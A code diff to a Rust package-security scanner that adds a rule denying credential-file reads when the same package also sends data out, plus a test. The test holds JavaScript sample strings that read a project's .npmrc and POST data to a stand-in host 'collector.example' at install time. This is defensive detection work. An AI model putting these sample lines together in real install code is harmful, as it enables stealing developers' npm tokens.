@@ -52,8 +52,28 @@ pub fn analyze(
     let surface = warden_archive::surface(&archive, hint);
     let mut findings = surface_findings(&surface);
     findings.extend(RuleSet::builtin().check(&surface));
+    escalate_credential_reads(&mut findings);
     findings.sort_by(|a, b| b.level.cmp(&a.level).then_with(|| a.file.cmp(&b.file)));
     Ok(Analysis { surface, findings })
+}
+
+/// Rules whose matches send data off the machine.
+const SENDS: &[&str] = &["network-send", "exfiltration-endpoint", "raw-ip-url"];
+
+/// Reading a credential file is what tools that honour a project's
+/// `.npmrc` do too; reading one in code that also sends data is how tokens
+/// are stolen: then it is denied.
+fn escalate_credential_reads(findings: &mut [Finding]) {
+    let sends = findings
+        .iter()
+        .any(|f| SENDS.contains(&f.rule.as_str()) && f.runs != Runs::Never);
+    if !sends {
+        return;
+    }
+    for f in findings.iter_mut().filter(|f| f.rule == "credential-files") {
+        f.level = Level::Deny;
+        f.summary = format!("{} in code that also sends data", f.summary);
+    }
 }
 
 /// Finding levels are the policy's.
@@ -338,6 +358,26 @@ fn high_entropy(line: &str, min_len: usize) -> Option<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_credential_read_is_denied_only_beside_code_that_sends() {
+        let set = RuleSet::builtin();
+        let read = "var npm = path.join(projectPath, '.npmrc'); fs.readFileSync(npm)";
+        let send = "https.request({ host: 'collector.example', method: 'POST' }).end(data)";
+        let level = |texts: &[&str]| {
+            let mut found: Vec<Finding> = texts
+                .iter()
+                .flat_map(|t| set.check_text("npm", Runs::Install, "index.js", t))
+                .collect();
+            escalate_credential_reads(&mut found);
+            found
+                .iter()
+                .find(|f| f.rule == "credential-files")
+                .map(|f| f.level)
+        };
+        assert_eq!(level(&[read]), Some(Level::Warn));
+        assert_eq!(level(&[read, send]), Some(Level::Deny));
+    }
 
     #[test]
     fn every_rule_matches_its_examples_and_only_them() {
